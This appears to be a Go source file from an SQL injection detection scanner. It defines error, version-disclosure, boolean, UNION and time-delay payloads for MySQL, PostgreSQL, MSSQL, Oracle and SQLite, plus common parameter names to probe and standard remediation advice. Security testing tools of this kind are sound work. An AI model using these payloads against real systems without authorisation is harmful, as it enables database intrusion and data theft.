// Package payloads holds the SQL injection payload tables and generators
// shared by the detection techniques: quote breakers for error-based tests,
// marker-bearing UNION probes, boolean pair generation, and per-DBMS timing
// payloads.
package payloads

import (
	"fmt"
	"math/rand"
	"strings"
	"time"
)

// DBMS represents a database management system.
type DBMS string

const (
	DBMSMySQL      DBMS = "mysql"
	DBMSPostgreSQL DBMS = "postgresql"
	DBMSMSSQL      DBMS = "mssql"
	DBMSOracle     DBMS = "oracle"
	DBMSSQLite     DBMS = "sqlite"
	DBMSGeneric    DBMS = "generic"
)

// AllDBMS returns all supported DBMS types.
func AllDBMS() []DBMS {
	return []DBMS{
		DBMSMySQL,
		DBMSPostgreSQL,
		DBMSMSSQL,
		DBMSOracle,
		DBMSSQLite,
		DBMSGeneric,
	}
}

// Payload is a single injection string with metadata.
type Payload struct {
	Value       string
	DBMS        DBMS
	Description string
	Sleep       time.Duration // for timing payloads
}

// ErrorProbes returns syntax breakers that coax SQL errors out of an
// injectable parameter. These go in front of every other technique: they
// are cheap and a match is strong evidence.
func ErrorProbes() []Payload {
	return []Payload{
		{Value: "'", Description: "single quote"},
		{Value: "\"", Description: "double quote"},
		{Value: "')", Description: "quote with closing paren"},
		{Value: "'))", Description: "quote with double paren"},
		{Value: "'\"", Description: "mixed quotes"},
		{Value: "\\'", Description: "escaped quote"},
		{Value: "' OR '1'='1", Description: "classic OR"},
		{Value: "' AND '1'='2", Description: "AND false"},
		{Value: "1' ORDER BY 999-- -", Description: "ORDER BY overflow"},
		{Value: "';", Description: "statement terminator"},
	}
}

// VersionProbes returns error payloads that embed the database version in
// the error text. A hit upgrades a finding from high to critical because it
// proves expression evaluation, not just broken syntax.
func VersionProbes() []Payload {
	return []Payload{
		{Value: "' AND EXTRACTVALUE(1,CONCAT(0x7e,VERSION()))-- -", DBMS: DBMSMySQL, Description: "EXTRACTVALUE version"},
		{Value: "' AND UPDATEXML(1,CONCAT(0x7e,VERSION()),1)-- -", DBMS: DBMSMySQL, Description: "UPDATEXML version"},
		{Value: "' AND CAST((SELECT version()) AS int)-- -", DBMS: DBMSPostgreSQL, Description: "version cast"},
		{Value: "' AND 1=CONVERT(int,(SELECT @@version))-- -", DBMS: DBMSMSSQL, Description: "version convert"},
		{Value: "' AND CTXSYS.DRITHSX.SN(user,(SELECT banner FROM v$version WHERE ROWNUM=1))=1-- -", DBMS: DBMSOracle, Description: "banner via context"},
		{Value: "' AND 1=CAST(sqlite_version() AS int)-- -", DBMS: DBMSSQLite, Description: "sqlite version cast"},
	}
}

// BoolPair is a matched true/false probe pair. The truthy payload should
// leave the query semantics intact; the falsy one should empty the result.
type BoolPair struct {
	True        string
	False       string
	Description string
}

// BooleanPairs generates true/false pairs across quote styles and
// parenthesis depths. The numeric comparisons use random two-digit values
// so cached or templated responses cannot echo a known constant back.
func BooleanPairs(rnd *rand.Rand) []BoolPair {
	quotes := []string{"", "'", "\""}
	parens := []string{"", ")"}

	var pairs []BoolPair
	for _, q := range quotes {
		for _, p := range parens {
			n := 10 + rnd.Intn(85) // two digits, n+1 stays two digits
			comment := "-- -"
			pairs = append(pairs, BoolPair{
				True:        fmt.Sprintf("%s%s AND %d=%d%s", q, p, n, n, comment),
				False:       fmt.Sprintf("%s%s AND %d=%d%s", q, p, n, n+1, comment),
				Description: fmt.Sprintf("quote=%q paren=%q", q, p),
			})
		}
	}
	return pairs
}

// Marker constants for UNION probing.
const (
	unionMarkerPrefix  = "SQLi1337M"
	verifyMarkerPrefix = "SQLiVerify"

	// MaxUnionColumns bounds column enumeration.
	MaxUnionColumns = 7
)

// UnionProbe is a UNION SELECT payload carrying one marker per column.
type UnionProbe struct {
	Payload string
	Columns int
	Markers []string
}

// UnionProbes builds marker-bearing UNION payloads for 1..maxColumns
// columns. Each column count yields a full-marker probe and a NULL-padded
// variant with the marker in the last column, for queries whose other
// columns reject strings.
func UnionProbes(maxColumns int) []UnionProbe {
	if maxColumns <= 0 || maxColumns > MaxUnionColumns {
		maxColumns = MaxUnionColumns
	}

	var probes []UnionProbe
	for cols := 1; cols <= maxColumns; cols++ {
		markers := make([]string, cols)
		quoted := make([]string, cols)
		for i := range markers {
			markers[i] = fmt.Sprintf("%s%d", unionMarkerPrefix, i+1)
			quoted[i] = "'" + markers[i] + "'"
		}
		probes = append(probes, UnionProbe{
			Payload: fmt.Sprintf("' UNION SELECT %s-- -", strings.Join(quoted, ",")),
			Columns: cols,
			Markers: markers,
		})

		padded := make([]string, cols)
		for i := range padded {
			padded[i] = "NULL"
		}
		padded[cols-1] = quoted[cols-1]
		probes = append(probes, UnionProbe{
			Payload: fmt.Sprintf("' UNION ALL SELECT %s-- -", strings.Join(padded, ",")),
			Columns: cols,
			Markers: []string{markers[cols-1]},
		})
	}
	return probes
}

// MarkerColumn returns the 1-based column number encoded in a probe
// marker, or 0 when the string is not a probe marker.
func MarkerColumn(marker string) int {
	rest, ok := strings.CutPrefix(marker, unionMarkerPrefix)
	if !ok {
		return 0
	}
	var n int
	if _, err := fmt.Sscanf(rest, "%d", &n); err != nil || n < 1 {
		return 0
	}
	return n
}

// UnionVerify builds a confirmation payload placing a fresh random marker
// at the column where the first probe surfaced. The column is 1-based.
func UnionVerify(column, totalColumns int, rnd *rand.Rand) (payload, marker string) {
	if column < 1 {
		column = 1
	}
	if totalColumns < column {
		totalColumns = column
	}
	marker = fmt.Sprintf("%s%04d", verifyMarkerPrefix, rnd.Intn(10000))
	cols := make([]string, totalColumns)
	for i := range cols {
		cols[i] = "NULL"
	}
	cols[column-1] = "'" + marker + "'"
	return fmt.Sprintf("' UNION SELECT %s-- -", strings.Join(cols, ",")), marker
}

// TimeProbes returns per-DBMS payloads that delay the response by delay
// seconds when the parameter is injectable.
func TimeProbes(delay time.Duration) []Payload {
	secs := int(delay.Seconds())
	if secs <= 0 {
		secs = 5
	}
	d := time.Duration(secs) * time.Second
	return []Payload{
		{Value: fmt.Sprintf("' AND SLEEP(%d)-- -", secs), DBMS: DBMSMySQL, Sleep: d, Description: "SLEEP"},
		{Value: fmt.Sprintf("' AND (SELECT * FROM (SELECT(SLEEP(%d)))a)-- -", secs), DBMS: DBMSMySQL, Sleep: d, Description: "subquery SLEEP"},
		{Value: fmt.Sprintf("' AND (SELECT pg_sleep(%d))-- -", secs), DBMS: DBMSPostgreSQL, Sleep: d, Description: "pg_sleep"},
		{Value: fmt.Sprintf("'||pg_sleep(%d)-- -", secs), DBMS: DBMSPostgreSQL, Sleep: d, Description: "concat pg_sleep"},
		{Value: fmt.Sprintf("';WAITFOR DELAY '0:0:%d'-- -", secs), DBMS: DBMSMSSQL, Sleep: d, Description: "WAITFOR DELAY"},
		{Value: fmt.Sprintf("' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',%d)-- -", secs), DBMS: DBMSOracle, Sleep: d, Description: "RECEIVE_MESSAGE"},
		{Value: "' AND 1=(SELECT COUNT(*) FROM sqlite_master a, sqlite_master b, sqlite_master c, sqlite_master d)-- -", DBMS: DBMSSQLite, Sleep: d, Description: "heavy query"},
	}
}

// CommonParams returns parameter names worth probing when a URL exposes
// none of its own.
func CommonParams() []string {
	return []string{
		"id", "user", "username",
		"name", "email", "login",
		"search", "q", "query",
		"page", "p", "num",
		"cat", "category", "catid",
		"sort", "order", "orderby",
		"type", "view", "item",
		"product", "article", "news",
		"pid", "uid", "sid",
		"limit", "offset", "start",
		"filter", "action", "file",
	}
}

// Remediation returns the standard guidance attached to findings.
func Remediation() string {
	return `1. Use parameterized queries (prepared statements) for all database operations
2. Implement input validation with whitelisting
3. Apply the principle of least privilege to database accounts
4. Escape special characters if parameterization is not possible
5. Implement proper error handling to prevent information disclosure
6. Regular security testing and code review`
}
